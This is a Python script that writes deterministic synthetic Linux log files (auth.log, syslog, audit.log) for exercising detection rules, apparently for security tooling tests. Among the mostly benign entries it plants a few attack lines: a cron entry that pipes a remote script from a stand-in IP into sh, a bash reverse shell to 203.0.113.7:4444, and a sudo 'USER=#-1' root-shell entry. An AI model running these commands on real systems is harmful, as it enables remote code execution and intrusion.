#!/usr/bin/env python3
"""gen_logs.py DIR MIB: writes DIR/var/log/{auth.log,syslog,audit/audit.log}, about MIB MiB in all
(a third each), deterministic (fixed seed). Mostly ordinary traffic (sshd logins, sudo, cron,
systemd, kernel lines; auditd SYSCALL/EXECVE/CWD/PATH/PROCTITLE/EOE events of common programs),
with a few planted attacks so that rules fire now and then, as on a real host."""
import os
import random
import sys

rng = random.Random(17)
out, mib = sys.argv[1], int(sys.argv[2])
target = mib * 1024 * 1024 // 3
os.makedirs(f"{out}/var/log/audit", exist_ok=True)
users = ["alice", "bob", "deploy", "backup", "www-data", "postgres"]
ips = [f"198.51.100.{i}" for i in range(1, 60)] + [f"203.0.113.{i}" for i in range(1, 30)]
progs = ["/usr/bin/ls", "/usr/bin/cat", "/usr/bin/grep", "/usr/bin/python3", "/usr/bin/systemctl",
         "/usr/sbin/sshd", "/usr/bin/bash", "/usr/bin/curl", "/usr/bin/tar", "/usr/bin/find"]


def stamp(i):
    return f"Dec {1 + i // 86400 % 28:2d} {i // 3600 % 24:02d}:{i // 60 % 60:02d}:{i % 60:02d}"


def auth_line(i):
    r = rng.random()
    u, ip, pid = rng.choice(users), rng.choice(ips), 1000 + i % 30000
    if r < 0.35:
        return f"{stamp(i)} web sshd[{pid}]: Accepted publickey for {u} from {ip} port {40000 + i % 20000} ssh2"
    if r < 0.55:
        return f"{stamp(i)} web sshd[{pid}]: pam_unix(sshd:session): session opened for user {u}(uid=1000) by (uid=0)"
    if r < 0.70:
        return f"{stamp(i)} web sudo:    {u} : TTY=pts/{i % 9} ; PWD=/home/{u} ; USER=root ; COMMAND=/usr/bin/systemctl status nginx"
    if r < 0.85:
        return f"{stamp(i)} web sshd[{pid}]: Failed password for invalid user admin{i % 97} from {ip} port {40000 + i % 20000} ssh2"
    if r < 0.999:
        return f"{stamp(i)} web sshd[{pid}]: Disconnected from user {u} {ip} port {40000 + i % 20000}"
    return f"{stamp(i)} web sudo:    {u} : TTY=pts/0 ; PWD=/tmp ; USER=#-1 ; COMMAND=/bin/bash"


def syslog_line(i):
    r = rng.random()
    if r < 0.3:
        return f"{stamp(i)} web CRON[{2000 + i % 30000}]: (root) CMD (command -v debian-sa1 > /dev/null && debian-sa1 1 1)"
    if r < 0.6:
        return f"{stamp(i)} web systemd[1]: Started Session {i} of User {rng.choice(users)}."
    if r < 0.9:
        return f"{stamp(i)} web kernel: [{i}.{i % 1000:03d}] IPv4: martian source 10.0.0.{i % 250} from 10.0.1.{i % 250}, on dev eth0"
    if r < 0.999:
        return f"{stamp(i)} web dhclient[811]: DHCPACK of 10.0.0.5 from 10.0.0.1 (xid=0x{i:08x})"
    return f"{stamp(i)} web CRON[{2000 + i % 30000}]: (root) CMD (curl -s http://203.0.113.5/u.sh | sh)"


def hexs(s):
    return s.encode().hex().upper()


def audit_event(i):
    t = f"{1764547200 + i // 10}.{i % 1000:03d}:{i}"
    exe = rng.choice(progs)
    comm = exe.rsplit("/", 1)[1]
    pid = 3000 + i % 60000
    if rng.random() < 0.001:
        args = ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"]
        exe, comm = "/usr/bin/bash", "bash"
    else:
        args = [comm, rng.choice(["-la", "--version", "/etc/hosts", "-r x /var/www", "status nginx"])]
    argv = " ".join(f'a{k}={hexs(a) if " " in a else chr(34) + a + chr(34)}' for k, a in enumerate(args))
    return "\n".join([
        f'type=SYSCALL msg=audit({t}): arch=c000003e syscall=59 success=yes exit=0 a0=55d0 a1=55d1 a2=55d2 a3=0 items=2 ppid={pid - 1} pid={pid} auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=3 comm="{comm}" exe="{exe}" subj=unconfined key="exec"',
        f"type=EXECVE msg=audit({t}): argc={len(args)} {argv}",
        f'type=CWD msg=audit({t}): cwd="/root"',
        f'type=PATH msg=audit({t}): item=0 name="{exe}" inode={i} dev=fd:00 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0',
        f"type=PROCTITLE msg=audit({t}): proctitle={hexs(chr(0).join(args))}",
        f"type=EOE msg=audit({t}): "])


for name, make in (("auth.log", auth_line), ("syslog", syslog_line), ("audit/audit.log", audit_event)):
    with open(f"{out}/var/log/{name}", "w") as f:
        written, i, lines = 0, 0, []
        while written < target:
            s = make(i) + "\n"
            lines.append(s)
            written += len(s)
            i += 1
            if len(lines) >= 10000:
                f.write("".join(lines))
                lines = []
        f.write("".join(lines))
